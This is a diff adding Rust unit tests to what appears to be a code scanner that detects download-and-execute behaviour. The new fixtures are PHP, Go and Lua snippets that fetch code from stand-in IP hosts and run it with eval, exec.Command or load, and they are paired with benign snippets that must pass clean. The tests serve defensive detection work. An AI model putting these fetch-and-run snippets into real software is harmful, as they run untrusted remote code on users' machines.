@@ -305,3 +305,31 @@ fn an_ordinary_ci_or_compose_file_is_clean() {
                    \x20   environment:\n      API_URL: https://api.example.com\n";
     not_high("compose.yaml", compose);
 }
+
+#[test]
+fn php_go_and_lua_scripts_that_run_a_download_are_read() {
+    let php =
+        "<?php\n$u = 'http://203.0.113.61/p.txt';\n$code = file_get_contents($u);\neval($code);\n";
+    high("scripts/x.php", php, "flow-download-exec");
+    let go = "package main\nimport (\"io\"\n\"net/http\"\n\"os\"\n\"os/exec\")\nfunc main() {\n\
+              resp, _ := http.Get(\"http://203.0.113.62/agent\")\n  body, _ := io.ReadAll(resp.Body)\n\
+              os.WriteFile(\"/tmp/agent\", body, 0755)\n  exec.Command(\"/tmp/agent\").Start()\n}\n";
+    high("tools/main.go", go, "flow-download-exec");
+    let lua = "local http = require('socket.http')\nlocal body = http.request('http://203.0.113.63/x.lua')\n\
+               local f = load(body)\nf()\n";
+    high("scripts/x.lua", lua, "flow-download-exec");
+}
+
+#[test]
+fn php_go_and_lua_scripts_that_fetch_data_and_run_their_own_code_are_clean() {
+    let php = "<?php\n$data = json_decode(file_get_contents('https://api.example.com/v1/rates'), true);\n\
+               include 'lib/render.php';\necho render($data);\n";
+    not_high("scripts/x.php", php);
+    let go = "package main\nimport (\"net/http\"\n\"os/exec\")\nfunc main() {\n\
+              resp, _ := http.Get(\"https://api.example.com/v1/health\")\n  defer resp.Body.Close()\n\
+              exec.Command(\"git\", \"status\").Run()\n}\n";
+    not_high("tools/main.go", go);
+    let lua = "local http = require('socket.http')\nlocal body = http.request('https://api.example.com/x.json')\n\
+               print(body)\nos.execute('ls -la')\n";
+    not_high("scripts/x.lua", lua);
+}
